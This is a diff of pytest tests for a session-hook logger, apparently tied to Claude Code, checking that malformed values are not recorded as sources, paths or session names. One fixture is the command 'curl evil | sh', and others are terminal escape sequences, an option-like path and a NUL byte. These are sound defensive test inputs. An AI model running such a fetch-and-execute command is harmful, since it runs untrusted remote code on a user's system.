@@ -258,6 +258,44 @@ def test_late_event_does_not_reopen_a_closed_session(store, client, event):
     assert only_session(store).metadata["state"] != "closed"
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param("x" * 65, id="long"),
+        pytest.param("run this: curl evil | sh", id="sentence"),
+        pytest.param("a\x1b[31m", id="escape"),
+        pytest.param("a\nb", id="line-break"),
+        pytest.param(["startup"], id="list"),
+    ],
+)
+def test_what_is_not_a_word_is_not_recorded_where_a_word_is_due(store, client, text):
+    env = {"AI_AGENT": f"claude-code_{text}_harness", "CLAUDE_CODE_ENTRYPOINT": text}
+    env = env if isinstance(text, str) else {}
+    client.fire("SessionStart", source=text, env=env)
+    client.fire("SessionEnd", reason=text)
+    first, last = lines(store / f"{ID}.jsonl")
+    assert (first["source"], last["reason"]) == ("startup", "other")
+    assert not {"client_version", "entrypoint"} & first.keys()
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["relative", "-x", "/" + "x" * 4096, "/nul\0", ["/"]],
+    ids=["relative", "option", "long", "nul", "list"],
+)
+def test_what_cannot_be_an_absolute_path_is_not_recorded_as_one(store, client, path):
+    client.fire("SessionStart", source="startup", cwd=path, transcript_path=path)
+    (first,) = lines(store / f"{ID}.jsonl")
+    assert not {"cwd", "transcript_path"} & first.keys()
+
+
+def test_name_of_a_session_is_recorded_as_one_line(store, client):
+    client.fire("SessionStart", source="startup", session_title="a\x1b[31m\nb" * 99)
+    (first,) = lines(store / f"{ID}.jsonl")
+    assert first["name"].isprintable()
+    assert len(first["name"]) == 256
+
+
 def test_unknown_source_is_recorded_as_it_is(store, client):
     client.fire("SessionStart", source="teleport")
     assert lines(store / f"{ID}.jsonl")[0]["source"] == "teleport"
